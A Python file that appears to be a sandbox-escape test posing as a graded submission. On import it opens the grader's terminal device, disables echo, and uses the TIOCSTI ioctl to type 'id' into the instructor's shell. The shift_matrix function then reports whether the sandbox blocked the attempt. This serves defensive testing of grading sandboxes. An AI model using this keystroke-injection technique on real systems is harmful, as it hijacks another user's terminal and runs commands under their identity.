"""Take over the grader's terminal: open it by path (__TTY__, standing for /dev/pts/N of the shell the
instructor graded from), switch off echo and line editing (stty -echo -icanon) and push characters
into its input (TIOCSTI), so the instructor's next command is typed for them. Stopped by seccomp (no
terminal ioctl: ENOTTY) and by a uid of its own (the terminal is not its to open); the sandbox child
itself has no controlling terminal (setsid) and no terminal among its file descriptors."""
import fcntl
import os
import termios


def _attack():
    done, refused = [], set()
    for flags in (os.O_RDWR | os.O_NOCTTY, os.O_RDONLY | os.O_NOCTTY):
        try:
            fd = os.open("__TTY__", flags)
            break
        except OSError as exc:
            refused.add(type(exc).__name__)
    else:
        return done, refused
    try:
        attrs = termios.tcgetattr(fd)
        attrs[3] &= ~(termios.ECHO | termios.ICANON)
        termios.tcsetattr(fd, termios.TCSANOW, attrs)
        done.append("-echo -icanon")
    except (OSError, termios.error) as exc:
        refused.add(type(exc).__name__)
    try:
        for char in b"id\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([char]))
        done.append("typed")
    except OSError as exc:
        refused.add(type(exc).__name__)
    os.close(fd)
    return done, refused


_done, _refused = _attack()


def shift_matrix(k, d_model, base=10000.0):
    if _done:
        raise RuntimeError("CHANGED " + " ".join(_done))
    raise RuntimeError("BLOCKED " + " ".join(sorted(_refused)))
